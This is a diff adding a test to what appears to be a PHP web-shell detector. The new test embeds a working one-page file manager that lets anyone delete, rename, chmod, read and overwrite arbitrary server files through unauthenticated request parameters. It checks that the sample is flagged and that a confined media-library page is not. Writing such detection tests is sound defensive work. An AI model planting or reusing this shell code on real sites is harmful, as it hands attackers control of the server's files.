@@ -978,3 +978,22 @@ def test_closure_called_through_a_variable_is_not_a_run_time_name(eng):
            b"foreach ($rows as $row) { fputcsv($out, [$safe($row['email']), $status]); }\n")
     v = eng.analyse(src, '/var/www/html/export.php')
     assert not v.suspicious, v
+
+
+def test_one_page_file_manager_for_the_whole_server(eng):
+    src = (b"<?php\n$d = isset($_GET['d']) ? $_GET['d'] : '/';\n"
+           b"if (isset($_GET['rm'])) { @unlink($_GET['rm']); }\nif (isset($_POST['mv'])) { rename($_POST['mv'], $_POST['to']); }\n"
+           b"if (isset($_POST['perm'])) { chmod($_POST['f'], octdec($_POST['perm'])); }\n"
+           b"if (isset($_POST['nd'])) { mkdir($d . '/' . $_POST['nd']); }\nif (isset($_GET['show'])) { highlight_file($_GET['show']); }\n"
+           b"if (isset($_POST['save'])) { $h = fopen($_POST['f'], 'w'); fwrite($h, $_POST['body']); }\n"
+           b"foreach (scandir($d) as $e) { echo htmlspecialchars($e), '<br>'; }\n?>\n"
+           b"<form method=post><input name=f><textarea name=body></textarea><input name=save type=submit></form>\n")
+    v = eng.analyse(src, '/var/www/html/fm.php')
+    assert v.suspicious and 'php.shell.toolkit' in rules(v), v
+    # near-miss: a media library page: upload, list and delete inside the CMS's own folder
+    near = (b"<?php\nrequire 'admin/bootstrap.php';\n$dir = MEDIA_DIR;\n"
+            b"if (!empty($_FILES['m']) && in_array(pathinfo($_FILES['m']['name'], PATHINFO_EXTENSION), ['jpg', 'png'])) {\n"
+            b"  move_uploaded_file($_FILES['m']['tmp_name'], $dir . '/' . md5_file($_FILES['m']['tmp_name']) . '.jpg'); }\n"
+            b"if (isset($_POST['del'])) { unlink($dir . '/' . basename($_POST['del'])); }\n"
+            b"foreach (scandir($dir) as $e) { echo htmlspecialchars($e); }\n?>\n<form method=post enctype=multipart/form-data><input type=file name=m></form>\n")
+    assert not eng.analyse(near, '/var/www/html/admin/media.php').suspicious
